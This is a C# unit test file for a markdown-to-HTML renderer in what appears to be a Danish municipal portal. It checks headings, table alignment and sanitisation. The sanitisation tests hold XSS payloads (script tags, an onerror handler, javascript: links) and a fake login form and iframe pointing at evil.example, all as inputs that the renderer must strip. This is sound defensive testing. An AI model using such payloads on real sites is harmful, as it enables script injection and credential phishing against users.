using Protokol.Portal;

namespace Protokol.Tests.Portal;

public class SectionHtmlTests
{
    static string Html(string markdown, int level = 4) => SectionHtml.Render(markdown, level).ToString()!;

    [Fact]
    public void Headings_inside_a_section_sit_one_level_below_it()
    {
        Assert.Contains("<h3>Baggrund</h3>", Html("#### Baggrund\n\nTekst.", 3), StringComparison.Ordinal);
        Assert.Contains("<h4>Baggrund</h4>", Html("# Baggrund", 4), StringComparison.Ordinal);
    }

    [Fact]
    public void Pipe_tables_become_tables_in_a_keyboard_reachable_region()
    {
        var html = Html("| Område | Beløb |\n|---|---|\n| Skoler | 1.200 |");
        Assert.Contains("<div class=\"table-scroll\" tabindex=\"0\" role=\"region\" aria-label=\"Tabel\"><table>", html, StringComparison.Ordinal);
        Assert.Contains("<td>Skoler</td>", html, StringComparison.Ordinal);
        // Amounts stand to the right, bold totals too, though the table did not say so.
        Assert.Contains("<td class=\"align-right\">1.200</td>", html, StringComparison.Ordinal);
        Assert.Contains("<td class=\"align-right\"><strong>-136,9</strong></td>", Html("| A | B |\n|---|---|\n| I alt | **-136,9** |"), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("[klik](javascript:alert(1))")]
    public void User_text_cannot_run_script(string markdown)
    {
        var html = Html(markdown);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("onerror", html, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript:", html, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void Imported_forms_and_overlays_are_dropped()
    {
        var html = Html("""
            <form action="https://evil.example/login"><input type="password" name="kode"><button>Log ind</button></form>

            <div style="position:fixed;inset:0;z-index:9" class="overlay" id="login">Din session er udløbet</div>

            <p style="position:absolute" class="note" id="p1">Sagen er <iframe src="https://evil.example"></iframe>behandlet.</p>
            """);
        foreach (var gone in new[] { "<form", "<input", "<button", "<iframe", "<div", "style", "position", "evil.example", "class", "id=" })
            Assert.DoesNotContain(gone, html, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("<p>Sagen er behandlet.</p>", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Images_load_only_over_https_or_as_embedded_bitmaps()
    {
        var html = Html("![sporing](http://tracker.example/pixel.png) ![kort](https://greve.dk/kort.png) ![logo](data:image/png;base64,iVBORw0KGgo=) ![svg](data:image/svg+xml;base64,PHN2Zz4=)");
        Assert.DoesNotContain("tracker.example", html, StringComparison.Ordinal);
        Assert.DoesNotContain("svg+xml", html, StringComparison.Ordinal);
        Assert.Contains("src=\"https://greve.dk/kort.png\"", html, StringComparison.Ordinal);
        Assert.Contains("src=\"data:image/png;base64,iVBORw0KGgo=\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Links_keep_only_web_mail_and_local_addresses()
    {
        var html = Html("[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](ftp://greve.dk/x) [d](https://greve.dk) [e](mailto:post@greve.dk) [f](#punkt-2) [g](/moeder/3)");
        Assert.Equal(4, html.Split("href=").Length - 1);
        foreach (var kept in new[] { "https://greve.dk", "mailto:post@greve.dk", "#punkt-2", "/moeder/3" })
            Assert.Contains($"href=\"{kept}\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Column_alignment_of_pipe_tables_survives_as_a_class()
    {
        var html = Html("| Område | Beløb |\n|:---|---:|\n| Skoler | 1.200 |");
        Assert.Contains("<th class=\"align-right\">Beløb</th>", html, StringComparison.Ordinal);
        Assert.Contains("<td class=\"align-right\">1.200</td>", html, StringComparison.Ordinal);
        Assert.Contains("<td class=\"align-left\">Skoler</td>", html, StringComparison.Ordinal);
        Assert.Contains(".align-right", File.ReadAllText(Path.Combine(Samples.RepoRoot, "src", "Protokol", "wwwroot", "site.css")), StringComparison.Ordinal);
    }
}
